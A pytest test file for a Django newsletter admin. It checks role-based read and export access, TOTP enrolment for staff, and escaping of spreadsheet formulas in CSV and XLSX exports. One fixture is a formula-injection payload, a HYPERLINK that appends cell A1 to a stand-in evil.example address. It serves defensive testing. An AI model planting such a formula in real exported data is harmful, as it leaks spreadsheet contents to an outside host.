import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from innoprocure.core.roles import EDITORS, SECRETARIAT, setup_roles
from innoprocure.newsletter.tests.factories import SubscriberFactory


@pytest.fixture
def staff(db, settings):
    # force_login() sends a request without an address; django-axes cannot log it on PostgreSQL (inet column).
    settings.AXES_ENABLED = False
    setup_roles()

    def make(role):
        user = get_user_model().objects.create_user(username=role, email=f"{role.split()[0].lower()}@example.org", password="x")
        user.groups.add(Group.objects.get(name=role))
        # Staff must have an authenticator app before they may enter the admin.
        TOTP.activate(user, generate_totp_secret())
        return user

    return make


@pytest.mark.parametrize("role", [SECRETARIAT, EDITORS])
def test_secretariat_and_editors_read_and_export_subscribers_but_cannot_edit(client, staff, role):
    subscriber = SubscriberFactory(email="reader@example.org", topics=["events"])
    client.force_login(staff(role))
    listing = client.get("/admin/newsletter_subscribers/")
    assert listing.status_code == 200
    assert "reader@example.org" in listing.content.decode()

    export = client.get("/admin/newsletter_subscribers/?export=csv")
    assert export.status_code == 200
    content = b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
    assert "reader@example.org" in content
    assert "Events and training" in content

    assert client.get(f"/admin/newsletter_subscribers/inspect/{subscriber.pk}/").status_code == 200
    edit = client.get(f"/admin/newsletter_subscribers/edit/{subscriber.pk}/")
    assert edit.status_code in (302, 403)
    assert client.get("/admin/newsletter_subscribers/new/").status_code in (302, 403)


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_exports_neutralise_formulas_in_csv_and_xlsx(client, staff):
    import csv
    import io

    import openpyxl

    SubscriberFactory(email="formula@example.org", name=FORMULA)
    SubscriberFactory(email="plain@example.org", name="Ana Horvat")
    client.force_login(staff(SECRETARIAT))

    csv_export = client.get("/admin/newsletter_subscribers/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(csv_export.streaming_content).decode())))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + FORMULA, "Ana Horvat"}

    xlsx_export = client.get("/admin/newsletter_subscribers/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_export.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20", "'+31 20"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("Ana", "Ana"),
        (3, 3),
    ],
)
def test_neutralise_leaves_only_plain_text(value, expected):
    from innoprocure.core.spreadsheets import neutralise

    assert neutralise(value) == expected
